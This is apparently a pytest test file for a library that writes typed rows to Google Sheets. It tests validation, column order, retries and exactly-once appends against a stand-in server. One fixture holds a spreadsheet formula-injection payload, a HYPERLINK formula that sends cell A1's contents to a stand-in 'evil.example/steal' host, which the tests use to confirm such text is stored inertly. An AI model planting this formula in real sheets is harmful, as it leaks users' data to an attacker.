"""Adding rows to a Google Sheet: validated first, written as typed cells (text as text, dates as
date cells), in the sheet's own column order, with the tab's next id, exactly once even when
Google's answer is lost, and never silently dropped.

The real gspread client writes over HTTP to the stand-in; the stand-in's stored cells are the
ground truth.
"""

from __future__ import annotations

import datetime as dt
import threading
import time
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest

from learnloop import load, writes
from learnloop.sources import sheets
from learnloop.workbook import Workbook
from tests.fixtures.messy import MESSY_TABS
from tests.fixtures.small import raw_tabs
from tests.sheet_access import FAST
from tests.sheet_access import sheet_reader as make_reader
from tests.sheet_access import writable_sheet as add_writable
from tests.sheets_standin import Cell, SheetsStandin

FORMULA_LIKE = {
    "artifact": '=HYPERLINK("https://evil.example/steal?c="&A1,"Open the deck")',
    "presenter": "+1",
    "participants": "-2",
    "feedback": "@x",
    "follow_up": "=1+1",
}


@pytest.fixture
def reader(sheets_standin: SheetsStandin, standin_service_account: dict[str, str]) -> sheets.SheetReader:
    return make_reader(sheets_standin, standin_service_account)


@pytest.fixture
def small_sid(sheets_standin: SheetsStandin, standin_service_account: dict[str, str]) -> str:
    return add_writable(sheets_standin, standin_service_account, raw_tabs(), title="Small playbook")


@pytest.fixture
def small_wb(small_sid: str, reader: sheets.SheetReader) -> Workbook:
    return load.workbook(small_sid, reader=reader)


def critique(wb: Workbook | None = None, **values: Any) -> dict[str, str]:
    base = {"date": dt.date(2026, 3, 2), "artifact_type": "experiment", "artifact": "Pricing page test",
            "theme_id": "T-A1", "roles": ["PM", "Eng"]}
    return writes.prepare("critiques", {**base, **values}, wb)


def ids_in(standin: SheetsStandin, sid: str, tab: str, column: int = 0) -> Counter[str]:
    return Counter(str(row[column]) for row in standin.values(sid, tab)[1:] if row and row[column] is not None)


# ------------------------------------------------------------------------------ as typed ---


def test_formula_looking_text_round_trips_as_text(
    sheets_standin: SheetsStandin, reader: sheets.SheetReader, small_sid: str, small_wb: Workbook,
) -> None:
    row = critique(small_wb, **FORMULA_LIKE)
    done = writes.append(reader, small_sid, "critiques", row)

    assert sheets_standin.counts["append"] == 0 and len(sheets_standin.batch_updates) == 1
    (request,) = sheets_standin.batch_updates[-1].body["requests"]
    sent = request["appendCells"]["rows"][0]["values"]
    # Every text cell goes as a typed string: Sheets never parses it, so it can never become a formula.
    assert {"stringValue": FORMULA_LIKE["artifact"]} in [cell.get("userEnteredValue") for cell in sent]
    assert all("formulaValue" not in cell.get("userEnteredValue", {}) for cell in sent)

    header = sheets_standin.values(small_sid, "critiques")[0]
    stored = dict(zip(header, sheets_standin.values(small_sid, "critiques")[-1], strict=False))
    assert stored["critique_id"] == done.id
    assert {column: stored[column] for column in FORMULA_LIKE} == FORMULA_LIKE
    last = sheets_standin.cells(small_sid, "critiques")[-1]
    assert all(cell is None or cell.formula is None for cell in last)  # stored as text, not as formulas

    again = load.workbook(small_sid, reader=reader)
    read_back = again.critiques.set_index("critique_id").loc[done.id]
    # A list of names reads back as a list: the one name, as typed.
    assert {column: read_back[column] for column in FORMULA_LIKE} == {**FORMULA_LIKE, "participants": ("-2",)}
    assert read_back["date"] == dt.datetime(2026, 3, 2) and read_back["roles"] == ("PM", "Eng")
    assert not [i for i in again.issues if i.tab == "critiques"], "the new row reads back without an issue"


def test_dates_land_as_date_cells_and_numbers_as_numbers(
    sheets_standin: SheetsStandin, reader: sheets.SheetReader, small_sid: str, small_wb: Workbook,
) -> None:
    row = writes.prepare("decisions", {"date": "2 Mar 2026", "category": "Discovery cadence", "summary": "Weekly",
                                       "impact": "4", "source_ids": ["S-1", "S-3"]}, small_wb)
    done = writes.append(reader, small_sid, "decisions", row)

    header = sheets_standin.values(small_sid, "decisions")[0]
    cells = dict(zip(header, sheets_standin.cells(small_sid, "decisions")[done.row_number - 1], strict=False))  # type: ignore[operator]
    # A date cell, as a person typing 2026-03-02 into Sheets makes one: it sorts and filters as a date.
    assert cells["date"] == Cell(dt.date(2026, 3, 2), number_format="date_iso")
    assert cells["impact"] == Cell(4)
    assert cells["category"] == Cell("discovery_cadence") and cells["source_ids"] == Cell("S-1, S-3")
    # What Sheets shows, and the serial number behind it.
    shown = reader.client.http_client.values_get(small_sid, f"decisions!A{done.row_number}:Z{done.row_number}")
    assert dict(zip(header, shown["values"][0], strict=False))["date"] == "2026-03-02"
    serial = reader.client.http_client.values_get(small_sid, f"decisions!A{done.row_number}:Z{done.row_number}",
                                                  params={"valueRenderOption": "UNFORMATTED_VALUE"})
    assert dict(zip(header, serial["values"][0], strict=False))["date"] == 46083


def test_a_blank_id_becomes_the_tabs_next_one_and_the_row_is_said(
    sheets_standin: SheetsStandin, reader: sheets.SheetReader, small_sid: str, small_wb: Workbook,
) -> None:
    highest = max(int(i.removeprefix("C-")) for i in ids_in(sheets_standin, small_sid, "critiques"))
    first = writes.append(reader, small_sid, "critiques", critique(small_wb))
    second = writes.append(reader, small_sid, "critiques", critique(small_wb, artifact="Another test"))

    assert (first.id, second.id) == (f"C-{highest + 1}", f"C-{highest + 2}")
    rows = sheets_standin.values(small_sid, "critiques")
    assert (first.row_number, second.row_number) == (len(rows) - 1, len(rows))
    assert rows[second.row_number - 1][0] == second.id  # type: ignore[operator]
    gid = sheets_standin.spreadsheet(small_sid).find_tab("critiques").sheet_id  # type: ignore[union-attr]
    assert second.link == f"https://docs.google.com/spreadsheets/d/{small_sid}/edit#gid={gid}&range=A{len(rows)}"
    assert (second.title, second.workbook) == ("critiques", "Small playbook")


def test_an_api_key_cannot_write_and_is_told_how_to(
    sheets_standin: SheetsStandin, small_sid: str, small_wb: Workbook,
) -> None:
    sheets_standin.set_public(small_sid)
    api_key = make_reader(sheets_standin, api_key=sheets_standin.add_api_key())
    row = critique(small_wb)
    with pytest.raises(writes.WriteFailed) as failed:
        writes.append(api_key, small_sid, "critiques", row)
    assert str(failed.value).startswith("An API key can only read: share the sheet with a service account as Editor")
    assert failed.value.row == row
    assert sheets_standin.counts["batch_update"] == 0


def test_values_land_in_the_column_order_of_the_real_header(
    sheets_standin: SheetsStandin, standin_service_account: dict[str, str], reader: sheets.SheetReader,
) -> None:
    # The messy tabs: headers reordered and renamed ("Added On ", "Pruned-On"), an unknown column,
    # a title row above the themes header and a title row plus a blank row above the decisions one.
    sid = add_writable(sheets_standin, standin_service_account, MESSY_TABS)
    before = load.workbook(sid, reader=reader)

    source = writes.prepare("sources", {"source_id": "S-100", "name": "Shape Up", "kind": "book",
                                        "added_on": dt.date(2026, 3, 2), "theme_id": "T-ONBOARD",
                                        "url": "https://basecamp.com/shapeup", "notes": "chapter 3"}, before)
    theme = writes.prepare("themes", {"theme_id": "T-NEW", "quarter": "2026-Q2", "title": "Hiring",
                                      "owner": "Aisha Bello"}, before)
    decision = writes.prepare("decisions", {"date": dt.date(2026, 4, 20), "category": "bet",
                                            "summary": "Hire a researcher", "source_ids": ["S-001", "S-002"]},
                              before)
    decision_id = writes.append(reader, sid, "decisions", decision).id
    for tab, row in (("sources", source), ("themes", theme)):
        writes.append(reader, sid, tab, row)

    def stored(title: str, row_id: str) -> tuple[int, list[object]]:
        rows = sheets_standin.values(sid, title)
        found = [(n, row) for n, row in enumerate(rows) if row_id in row]
        assert len(found) == 1, f"{row_id} is in {title} once"
        return found[0]

    # PLN: Name, Source ID, Kind, Added On, Theme ID, URL, Last engaged on, Pruned-On, Notes, Rating
    assert stored("PLN", "S-100")[1] == ["Shape Up", "S-100", "book", dt.date(2026, 3, 2), "T-ONBOARD",
                                         "https://basecamp.com/shapeup", None, None, "chapter 3"]
    # Themes: Theme ID, Title, Quarter, Owner, Status, Definition of good (below the title row and header)
    at, row = stored("Themes", "T-NEW")
    assert row == ["T-NEW", "Hiring", "2026-Q2", "Aisha Bello"] and at > 1
    # Decision Changes: Decision ID, Date, Category, Summary, Theme ID, Source IDs, ...
    at, row = stored("Decision Changes", decision_id)
    assert row == [decision_id, dt.date(2026, 4, 20), "bet", "Hire a researcher", None, "S-001, S-002"] and at > 2

    after = load.workbook(sid, reader=reader)
    assert after.sources.set_index("source_id").loc["S-100", "name"] == "Shape Up"
    assert after.sources.set_index("source_id").loc["S-100", "added_on"] == dt.datetime(2026, 3, 2)
    assert after.themes.set_index("theme_id").loc["T-NEW", "owner"] == "Aisha Bello"
    assert after.decisions.set_index("decision_id").loc[decision_id, "source_ids"] == ("S-001", "S-002")
    for tab in ("sources", "themes", "decisions"):
        assert len(after.tables[tab]) == len(before.tables[tab]) + 1, tab
        for severity in ("error", "warning"):
            assert after.count(severity, tab) == before.count(severity, tab), (tab, severity)


# ------------------------------------------------------------------------------ refusals ---


def test_invalid_input_is_refused_with_field_messages_and_nothing_is_written(
    sheets_standin: SheetsStandin, small_sid: str, small_wb: Workbook,
) -> None:
    before = sheets_standin.values(small_sid, "critiques")
    with pytest.raises(writes.WriteRefused) as refused:
        writes.prepare("critiques", {"date": None, "artifact_type": "meeting", "artifact": "  ",
                                     "roles": ["CEO"]}, small_wb)
    problems = refused.value.problems
    assert set(problems) == {"date", "artifact_type", "artifact", "roles"}
    assert "required" in problems["date"] and "2026-01-15" in problems["date"]
    assert "'meeting'" in problems["artifact_type"] and "experiment" in problems["artifact_type"]
    assert "required" in problems["artifact"]
    assert "PM, Design, Eng" in problems["roles"]
    assert sheets_standin.counts["batch_update"] == 0
    assert sheets_standin.values(small_sid, "critiques") == before


def test_unknown_references_and_taken_ids_are_refused(small_wb: Workbook, sheets_standin: SheetsStandin) -> None:
    with pytest.raises(writes.WriteRefused) as refused:
        critique(small_wb, theme_id="T-NOPE")
    assert list(refused.value.problems) == ["theme_id"]
    assert "'T-NOPE' is not a theme_id in the themes tab" in refused.value.problems["theme_id"]

    with pytest.raises(writes.WriteRefused) as refused:
        writes.prepare("decisions", {"date": dt.date(2026, 4, 2), "category": "bet", "summary": "x",
                                     "source_ids": ["S-1", "S-404"], "critique_ids": ["C-1"]}, small_wb)
    assert list(refused.value.problems) == ["source_ids"]
    assert "'S-404'" in refused.value.problems["source_ids"] and "S-1," not in refused.value.problems["source_ids"]

    with pytest.raises(writes.WriteRefused) as refused:
        writes.prepare("themes", {"theme_id": "T-A1", "quarter": "2026-Q3", "title": "Again"}, small_wb)
    assert "already used" in refused.value.problems["theme_id"]
    assert sheets_standin.counts["batch_update"] == 0


# ---------------------------------------------------------------------- many, and concurrent ---


def variants(template: dict[str, Any], n: int, tag: str) -> list[dict[str, Any]]:
    """``n`` rows like ``template`` (already validated) with ids of their own: preparing each costs ~0.1 s."""
    return [{**template, "critique_id": f"C-{tag}-{i:03d}", "artifact": f"{tag} {i}"} for i in range(n)]


def test_two_threads_appending_fifty_rows_each_land_exactly_one_hundred(
    sheets_standin: SheetsStandin, reader: sheets.SheetReader, small_sid: str,
) -> None:
    existing = ids_in(sheets_standin, small_sid, "critiques")
    template = critique()
    batches = [variants(template, 50, "thread-a"), variants(template, 50, "thread-b")]

    def run(rows: list[dict[str, str]]) -> list[writes.Appended]:
        return [writes.append(reader, small_sid, "critiques", row) for row in rows]

    with ThreadPoolExecutor(max_workers=2) as pool:
        results = [done for batch in pool.map(run, batches) for done in batch]

    assert len(results) == 100 and all(done.attempts == 1 for done in results)
    stored = ids_in(sheets_standin, small_sid, "critiques") - existing
    assert stored == Counter(row["critique_id"] for batch in batches for row in batch)
    assert sheets_standin.counts["batch_update"] == 100
    header = sheets_standin.values(small_sid, "critiques")[0]
    by_id = {row[0]: dict(zip(header, row, strict=False)) for row in sheets_standin.values(small_sid, "critiques")[1:]}
    for row in (r for batch in batches for r in batch):  # no row was torn or mixed with another
        assert by_id[row["critique_id"]]["artifact"] == row["artifact"]


LOST_ANSWERS: list[dict[str, Any]] = [
    {"kind": "500", "apply": True},  # written, then the answer says it failed
    {"kind": "503", "apply": True},
    {"kind": "non_json", "apply": True},
    {"kind": "500"},  # plainly failed: nothing written
    {"kind": "503"},
    {"kind": "429"},
]
HANGS: list[dict[str, Any]] = [
    {"kind": "hang", "apply": True},  # written, then the connection dies after the timeout
    {"kind": "hang", "apply": True, "after_hang": "answer"},  # written, the answer comes after the timeout
]


def test_two_hundred_appends_with_lost_answers_land_every_row_exactly_once(
    sheets_standin: SheetsStandin, reader: sheets.SheetReader, small_sid: str,
) -> None:
    existing = ids_in(sheets_standin, small_sid, "critiques")
    template = critique()
    rows = variants(template, 200, "row")
    schedule = (LOST_ANSWERS * 5 + HANGS)[::-1]  # 32 faults, among 200 appends, on 4 threads
    lock = threading.Lock()
    injected: list[Any] = []

    def write(row: dict[str, str]) -> writes.Appended:
        with lock:
            if schedule and int(row["artifact"].split()[-1]) % 6 == 0:
                fault = schedule.pop()
                injected.append((fault, sheets_standin.inject(**fault, times=1, endpoints="batch_update")))
        return writes.append(reader, small_sid, "critiques", row)

    with ThreadPoolExecutor(max_workers=4) as pool:
        results = list(pool.map(write, rows))

    assert not schedule and all(fault.hits == 1 for _, fault in injected), "every fault was met"
    stored = ids_in(sheets_standin, small_sid, "critiques") - existing
    assert stored == Counter(row["critique_id"] for row in rows), "every row exactly once: none lost, none twice"
    assert max(stored.values()) == 1
    applied = sum(1 for spec, _ in injected if spec.get("apply"))
    assert sum(done.confirmed_by_reread for done in results) == applied, "lost answers found by re-reading ids"
    assert sheets_standin.counts["batch_update"] == 200 + len(injected) - applied, "a write that landed is never repeated"
    assert [a.applied for a in sheets_standin.batch_updates].count(True) == 200


def test_faults_outlasting_the_retry_budget_fail_with_the_row_in_hand(
    sheets_standin: SheetsStandin, reader: sheets.SheetReader, small_sid: str,
) -> None:
    before = sheets_standin.values(small_sid, "critiques")
    row = critique(**FORMULA_LIKE)
    sheets_standin.inject("503", times=None, endpoints="batch_update")
    with pytest.raises(writes.WriteFailed) as failed:
        writes.append(reader, small_sid, "critiques", row)
    assert failed.value.row == {**row, "critique_id": failed.value.row["critique_id"]}
    assert failed.value.row["critique_id"], "the row keeps the id it was given, to be sent again"
    assert "after 6 tries" in str(failed.value) and "still here" in str(failed.value)
    assert sheets_standin.counts["batch_update"] == FAST.max_attempts
    assert sheets_standin.values(small_sid, "critiques") == before


@pytest.mark.parametrize("fault", [
    {"kind": "500", "times": None},  # reads fail too: the header cannot be read
    {"kind": "hang", "times": None, "endpoints": "metadata"},
])
def test_a_sheet_that_cannot_be_read_fails_the_write_with_the_row_in_hand(
    fault: dict[str, Any], sheets_standin: SheetsStandin, standin_service_account: dict[str, str], small_sid: str,
) -> None:
    reader = make_reader(sheets_standin, standin_service_account,
                         policy=sheets.RetryPolicy(max_seconds=1.5, max_attempts=3, first_wait=0.01, max_wait=0.1))
    row = critique()
    sheets_standin.inject(**fault)
    with pytest.raises(writes.WriteFailed) as failed:
        writes.append(reader, small_sid, "critiques", row)
    assert failed.value.row == row
    assert "try again" in str(failed.value)
    assert sheets_standin.counts["batch_update"] == 0


def test_a_viewer_account_cannot_write_and_is_told_to_share_as_editor(
    sheets_standin: SheetsStandin, standin_service_account: dict[str, str], reader: sheets.SheetReader,
    small_sid: str,
) -> None:
    sheets_standin.share(small_sid, standin_service_account["client_email"], "reader")
    row = critique()
    with pytest.raises(writes.WriteFailed) as failed:
        writes.append(reader, small_sid, "critiques", row)
    assert failed.value.row["artifact"] == row["artifact"]
    assert standin_service_account["client_email"] in str(failed.value) and "Editor" in str(failed.value)
    assert sheets_standin.counts["batch_update"] == 1, "a refusal is not retried"


def test_a_sheet_without_the_tab_says_to_run_init_sheet(
    sheets_standin: SheetsStandin, standin_service_account: dict[str, str], reader: sheets.SheetReader,
) -> None:
    sid = add_writable(sheets_standin, standin_service_account, {"themes": raw_tabs()["themes"]})
    row = critique()
    with pytest.raises(writes.WriteFailed) as failed:
        writes.append(reader, sid, "critiques", row)
    assert "init-sheet" in str(failed.value) and failed.value.row == row
    assert sheets_standin.counts["batch_update"] == 0




def test_a_write_applied_after_the_client_gave_up_is_not_repeated(
    sheets_standin: SheetsStandin, reader: sheets.SheetReader, small_sid: str,
) -> None:
    row = critique()
    # The server sits on the request past the client's timeout, *then* writes it and answers.
    sheets_standin.inject("hang", endpoints="batch_update", after_hang="answer", hang_seconds=2.0)
    done = writes.append(reader, small_sid, "critiques", row)
    deadline = time.monotonic() + 4
    while any(not a.applied and a.status is None for a in sheets_standin.batch_updates) and time.monotonic() < deadline:
        time.sleep(0.05)  # until the late write has landed
    assert ids_in(sheets_standin, small_sid, "critiques")[done.id] == 1


def test_sending_a_failed_row_again_looks_first_and_never_adds_it_twice(
    sheets_standin: SheetsStandin, reader: sheets.SheetReader, small_sid: str,
) -> None:
    sheets_standin.inject("500", endpoints="batch_update", times=None)
    with pytest.raises(writes.WriteFailed) as failed:
        writes.append(reader, small_sid, "critiques", critique())
    sheets_standin.clear_faults()
    # Say that a try was carried out after all, later than anyone looked: the row is in the sheet.
    row = failed.value.row
    header, *rows = sheets_standin.values(small_sid, "critiques")
    for position, column in enumerate(header):
        sheets_standin.set_cell(small_sid, "critiques", len(rows) + 1, position, row.get(column) or None)
    writes_before = sheets_standin.counts["batch_update"]
    again = writes.append(reader, small_sid, "critiques", row, look_first=True)
    assert again.confirmed_by_reread and sheets_standin.counts["batch_update"] == writes_before
    assert again.row_number == len(rows) + 2 and again.id == row["critique_id"]
    assert ids_in(sheets_standin, small_sid, "critiques")[row["critique_id"]] == 1


def test_a_tab_without_an_id_column_is_still_written_once(
    sheets_standin: SheetsStandin, standin_service_account: dict[str, str], reader: sheets.SheetReader,
) -> None:
    tabs = raw_tabs()
    tabs["critiques"] = [line[1:] for line in tabs["critiques"]]  # no critique_id column: rows are known by number
    sid = add_writable(sheets_standin, standin_service_account, tabs)
    row = critique(load.workbook(sid, reader=reader))
    sheets_standin.inject("500", endpoints="batch_update", apply=True)  # written; the answer says it failed
    done = writes.append(reader, sid, "critiques", row)
    rows = sheets_standin.values(sid, "critiques")
    assert done.confirmed_by_reread and done.row_number == len(rows) and done.id == f"C-r{len(rows)}"
    assert sum(1 for line in rows if "Pricing page test" in line) == 1
